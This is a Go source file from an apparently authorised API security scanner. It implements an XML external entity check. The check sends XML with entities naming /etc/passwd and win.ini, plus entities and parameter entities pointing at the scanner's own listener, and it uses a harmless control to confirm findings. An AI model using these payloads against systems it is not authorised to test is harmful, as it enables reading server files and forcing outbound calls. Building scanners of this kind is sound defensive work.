package inject

import (
	"context"
	"encoding/xml"
	"fmt"
	"maps"
	"regexp"
	"slices"
	"strings"

	"github.com/fastness/fastness/scan/finding"
	"github.com/fastness/fastness/scan/internal/check"
	"github.com/fastness/fastness/scan/internal/probe"
	"github.com/fastness/fastness/scan/wire"
)

// entities sends documents of XML with entities that name a file, or an address of the
// scan. An entity that stands for a text of the document itself does no harm.
func entities() []check.Check {
	kind := kindEntities()
	return []check.Check{{Kind: kind, Phase: check.Write, Run: func(ctx context.Context, t *probe.Target, report check.Report) error {
		for _, op := range t.API.Operations {
			if op.Safe() || op.Body == nil || !usable(t, op) {
				continue
			}
			if ctx.Err() != nil {
				return ctx.Err()
			}
			if claim, found := expands(ctx, t, baseOf(t, op, kind.ID)); found {
				report(claim)
			}
		}
		return ctx.Err()
	}}}
}

// xmlOf returns a document of XML that an operation may take, and whether the operation
// says that it takes XML at all.
func xmlOf(s spot) (document, media string, declared bool) {
	media = "application/xml"
	for _, m := range s.op.Body.Media {
		if strings.HasSuffix(m.Type, "/xml") || strings.HasSuffix(m.Type, "+xml") {
			media, declared = m.Type, true
			for _, example := range m.Examples {
				if text, ok := example.(string); ok && strings.Contains(text, "<") {
					return text, media, true
				}
			}
			if m.Schema != nil && m.Schema.Name != "" && document == "" {
				document = m.Schema.Name
			}
		}
	}
	switch v := s.c.Body.(type) {
	case string:
		if strings.HasPrefix(strings.TrimSpace(v), "<") {
			return v, media, declared
		}
	case map[string]any:
		root := "root"
		if document != "" {
			root = document
		}
		return "<" + root + ">" + elements(v, 0) + "</" + root + ">", media, declared
	}
	return "<root><name>a</name></root>", media, declared
}

func elements(m map[string]any, depth int) string {
	var b strings.Builder
	for _, name := range slices.Sorted(maps.Keys(m)) {
		if !nameOfXML.MatchString(name) || depth > 5 {
			continue
		}
		fmt.Fprintf(&b, "<%s>", name)
		if inner, ok := m[name].(map[string]any); ok {
			b.WriteString(elements(inner, depth+1))
		} else {
			_ = xml.EscapeText(&b, []byte(probe.Text(m[name]))) // It writes to memory.
		}
		fmt.Fprintf(&b, "</%s>", name)
	}
	return b.String()
}

var (
	nameOfXML  = regexp.MustCompile(`^[A-Za-z_][A-Za-z0-9_.-]*$`)
	rootOfXML  = regexp.MustCompile(`<([A-Za-z_][A-Za-z0-9_.:-]*)`)
	insideText = regexp.MustCompile(`>([^<>]*)</`)
	prologue   = regexp.MustCompile(`(?s)^\s*(<\?xml[^>]*\?>)?\s*(<!DOCTYPE[^>]*>)?`)
)

// declaring returns a document with a declaration in its head, and a reference in the place
// of each text, or of the only one that takes texts.
func declaring(document, declaration, reference string) string {
	document = prologue.ReplaceAllString(document, "")
	root := "root"
	if m := rootOfXML.FindStringSubmatch(document); m != nil {
		root = m[1]
	}
	if reference != "" {
		document = insideText.ReplaceAllString(document, ">"+reference+"</")
	}
	return `<?xml version="1.0"?><!DOCTYPE ` + root + " [" + declaration + "]>" + document
}

func expands(ctx context.Context, t *probe.Target, s spot) (claim check.Claim, found bool) {
	document, media, declared := xmlOf(s)
	send := func(text string) *wire.Exchange {
		r := s.c.Request()
		r.Body, r.Why = []byte(text), s.why
		r.Header.Set("Content-Type", media)
		return t.Do(ctx, s.user, r)
	}
	claim.Place, claim.Cause = probe.PlaceOf(s.op, "body", ""), s.op.String()
	for _, file := range []string{"file:///etc/passwd", "file:///c:/windows/win.ini"} {
		ex := send(declaring(document, `<!ENTITY fz SYSTEM "`+file+`">`, "&fz;"))
		words := knownFile(ex)
		if words == "" {
			if !declared && (ex.Status == 415 || ex.Status == 400 || ex.Status == 422) {
				break
			}
			continue
		}
		control := send(declaring(document, `<!ENTITY fz "a">`, "&fz;"))
		if knownFile(control) != "" {
			return claim, false
		}
		claim.Says = fmt.Sprintf("an entity that names %s is replaced by the file: the answer has %q", file, clip(words))
		claim.Control = "the same document with an entity that is a letter gives nothing of the kind"
		claim.Evidence = []finding.Evidence{evidence("the file", ex), evidence("the control", control)}
		return claim, true
	}
	if t.Listener() == nil || !declared && !parses(send, document) {
		return claim, false
	}
	for _, form := range []string{`<!ENTITY fz SYSTEM "URL">`, `<!ENTITY % fz SYSTEM "URL">%fz;`} {
		token := t.Marker()
		reference := "&fz;"
		if strings.Contains(form, "%") {
			reference = ""
		}
		ex := send(declaring(document, strings.ReplaceAll(form, "URL", t.Listener().URL(token)), reference))
		request, ok := t.Listener().Hit(ctx, token)
		if ok {
			claim.Says = fmt.Sprintf("an entity that names an address makes the target call it: it sent %q", firstLine(request))
			claim.Control = "the address has a text in it that was made for this request and told to nobody else"
			claim.Evidence = []finding.Evidence{evidence("the document", ex)}
			return claim, true
		}
	}
	return claim, false
}

// parses reports whether a target that does not say that it takes XML reads it all the
// same: it tells a whole document from half of one.
func parses(send func(string) *wire.Exchange, document string) bool {
	whole, half := send(document), send(document[:len(document)/2])
	return probe.Granted(whole) && !probe.Granted(half)
}
